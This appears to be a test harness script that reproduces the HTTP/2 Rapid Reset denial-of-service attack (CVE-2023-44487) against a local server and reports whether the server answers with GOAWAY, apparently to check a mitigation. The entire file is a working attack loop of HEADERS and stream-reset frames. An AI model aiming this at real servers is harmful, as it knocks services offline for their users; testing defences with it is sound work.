"""Rapid reset (CVE-2023-44487) with python-h2 as an independent HTTP/2 client.

Usage: rapid_reset.py PORT PATH PAIRS
Opens one connection, sends PAIRS of HEADERS + RST_STREAM(CANCEL) as fast as
the socket takes them, then reads until the server closes. Prints one JSON
line: {"goaway": error code or null, "last_stream": id or null, "sent": pairs sent}.
"""
import json
import socket
import sys

import h2.config
import h2.connection
import h2.events
import h2.exceptions

port, path, pairs = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
sock = socket.create_connection(("127.0.0.1", port))
conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, validate_outbound_headers=False))
conn.initiate_connection()
sock.sendall(conn.data_to_send())
headers = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", path),
    (":authority", "127.0.0.1"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]
goaway = None
last_stream = None
sent = 0


def handle(data):
    global goaway, last_stream
    try:
        events = conn.receive_data(data)
    except h2.exceptions.ProtocolError:
        return
    for event in events:
        if isinstance(event, h2.events.ConnectionTerminated):
            goaway = int(event.error_code)
            last_stream = event.last_stream_id


try:
    for i in range(pairs):
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, headers)
        conn.reset_stream(stream_id, error_code=8)
        sent += 1
        if i % 100 == 99:
            sock.sendall(conn.data_to_send())
            sock.setblocking(False)
            try:
                chunk = sock.recv(65536)
                if chunk:
                    handle(chunk)
            except BlockingIOError:
                pass
            sock.setblocking(True)
            if goaway is not None:
                break
    sock.sendall(conn.data_to_send())
except (BrokenPipeError, ConnectionResetError, h2.exceptions.ProtocolError):
    pass
sock.settimeout(20)
try:
    while goaway is None:
        chunk = sock.recv(65536)
        if not chunk:
            break
        handle(chunk)
except (OSError, socket.timeout):
    pass
print(json.dumps({"goaway": goaway, "last_stream": last_stream, "sent": sent}))
